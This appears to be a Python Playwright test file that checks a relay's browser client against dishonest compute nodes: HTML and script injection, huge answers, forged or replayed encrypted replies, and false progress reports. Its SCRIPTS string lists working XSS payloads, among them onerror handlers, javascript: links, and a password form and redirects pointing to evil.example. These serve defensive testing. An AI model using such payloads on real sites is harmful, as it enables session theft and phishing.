"""Compute nodes that are not honest: nothing of theirs runs, and a mismatch is shown as one."""

import asyncio
import time

import pytest
from playwright.sync_api import expect

from tokenplace_harness.browser.nodes import Job, Nodes
from tokenplace_harness.browser.person import Person
from tokenplace_harness.process import RelayProcess
from tokenplace_relay.protocol import envelope
from tokenplace_relay.protocol.envelope import Identity, Sealed

SCRIPTS = """<script>window.hit = 1</script>
<img src=x onerror="window.hit = 2"> <svg onload="window.hit = 3"></svg>
<iframe srcdoc="<script>parent.hit = 4</script>"></iframe>

[press](javascript:window.hit=5) [data](data:text/html,<script>window.hit=6</script>)

![pixel](https://tracker.example/pixel.png?secret)

<a href="javascript:window.hit=7">press</a> <https://example.com/"onclick="window.hit=8>

```html"><img src=x onerror=window.hit=9>
</code></pre><script>window.hit = 10</script>
```

| <b onmouseover="window.hit=11">x</b> |
|---|
| `<style>*{display:none}</style>` |

<form action="https://evil.example"><input name=password></form>
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">

&#60;script&#62;window.hit = 12&#60;/script&#62; &lt;b&gt;
"""


def test_script_and_html_stay_text(
    person: Person, shared_relay: RelayProcess, workers: Nodes
) -> None:
    async def attack(job: Job) -> None:
        await job.answer(SCRIPTS)

    workers.add(shared_relay.url, attack)
    person.ask("be nice")
    person.gets("<script>window.hit = 1</script>")
    found = (
        "script, img, svg:not(.icon), iframe, form, input, base, meta, style, [onclick], [onerror]"
    )
    assert person.answer.locator(found).count() == 0
    addresses = person.answer.locator("a").evaluate_all("links => links.map(one => one.href)")
    assert all(one.startswith("https://") for one in addresses)
    for link in person.answer.locator("a").all():
        expect(link).to_have_attribute("target", "_blank")
    assert person.page.evaluate("window.hit") is None
    assert all(url.startswith(shared_relay.url) for url in person.asked)
    expect(person.answer).to_contain_text("<script>window.hit = 12</script> <b>")


def test_policy_stops_what_would_slip_through(person: Person) -> None:
    """Belt and braces: even code in the page can neither run strings nor reach others."""
    tried = person.page.evaluate(
        """async () => {
            const hits = [];
            const box = document.createElement('p');
            try { box.innerHTML = '<b>x</b>'; hits.push('html'); } catch {}
            try { await fetch('https://evil.example/'); hits.push('fetch'); } catch {}
            const script = document.createElement('script');
            try { script.text = 'window.hit = 1'; document.body.append(script); } catch {}
            if (window.hit) hits.push('script');
            return hits;
        }"""
    )
    person.faults.clear()
    assert tried == []


@pytest.mark.filterwarnings("ignore:Sending a large body:ResourceWarning")
@pytest.mark.parametrize("kind", ["long", "nested", "stars", "brackets"])
def test_huge_answers_leave_the_page_alive(
    person: Person, shared_relay: RelayProcess, workers: Nodes, kind: str
) -> None:
    texts = {
        "long": "word " * 500_000,
        "nested": "> " * 29_000 + "deep",
        "stars": "*a_ " * 15_000,
        "brackets": "[" * 59_000,
    }

    async def flood(job: Job) -> None:
        await job.answer(texts[kind])

    workers.add(shared_relay.url, flood)
    person.ask("how much?")
    expect(person.answer).not_to_be_empty()
    if kind == "long":
        person.sees("2,300,000 more characters are not shown.")
    started = time.monotonic()
    person.box.fill("still alive")
    expect(person.box).to_have_value("still alive")
    assert time.monotonic() - started < 20


@pytest.mark.parametrize("field", ["request_id", "client_public_key", "protocol"])
def test_wrong_identity_is_shown_as_that(
    person: Person, shared_relay: RelayProcess, workers: Nodes, field: str
) -> None:
    async def mistaken(job: Job) -> None:
        await job.respond(
            {"message": {"role": "assistant", "content": "forged"}}, **{field: "other"}
        )

    workers.add(shared_relay.url, mistaken)
    person.ask("who is this for?")
    person.sees(f"The answer is not for this request: it has another inner {field}.")
    person.sees("do not trust this relay")
    assert "forged" not in person.page.content()


def test_replayed_answer_is_refused(
    person: Person, shared_relay: RelayProcess, workers: Nodes
) -> None:
    kept: list[Sealed] = []

    async def replay(job: Job) -> None:
        if not kept:
            client = str(job.work["client_public_key"])
            answer = {"message": {"role": "assistant", "content": "yes, do it"}}
            inner = envelope.response(job.request_id, client, answer)
            kept.append(await asyncio.to_thread(envelope.seal, inner, client, "pkcs1v15"))
        await job.post(kept[0])

    workers.add(shared_relay.url, replay)
    person.ask("is it safe?")
    person.gets("yes, do it")
    person.ask("shall I delete everything?")
    person.sees("it has another inner request_id")
    expect(person.answer).to_have_count(0)


def test_answer_encrypted_for_another_client_cannot_be_read(
    person: Person, shared_relay: RelayProcess, workers: Nodes
) -> None:
    stranger = Identity.create()

    async def misdirect(job: Job) -> None:
        inner = envelope.response(job.request_id, str(job.work["client_public_key"]), {})
        await job.post(await asyncio.to_thread(envelope.seal, inner, stranger.public, "pkcs1v15"))

    workers.add(shared_relay.url, misdirect)
    person.ask("for me?")
    person.sees("The answer cannot be decrypted")
    person.sees("It was discarded")


def test_progress_that_lies_changes_nothing(
    person: Person, shared_relay: RelayProcess, workers: Nodes
) -> None:
    async def lie(job: Job) -> None:
        await job.progress(1, "dreaming")
        await asyncio.sleep(0.4)
        await job.progress(2, "prefill", total_prompt_tokens=5, processed_prompt_tokens=9)
        await asyncio.sleep(0.4)
        await job.answer("true")

    workers.add(shared_relay.url, lie)
    person.ask("really?")
    person.gets("true")
    assert "dreaming" not in person.page.content()


def test_answer_without_text_is_reported(
    person: Person, shared_relay: RelayProcess, workers: Nodes
) -> None:
    async def mute(job: Job) -> None:
        await job.respond({"message": {"role": "assistant", "content": {"html": "<b>"}}})

    workers.add(shared_relay.url, mute)
    person.ask("say something")
    person.sees("The compute node sent an answer without any text.")
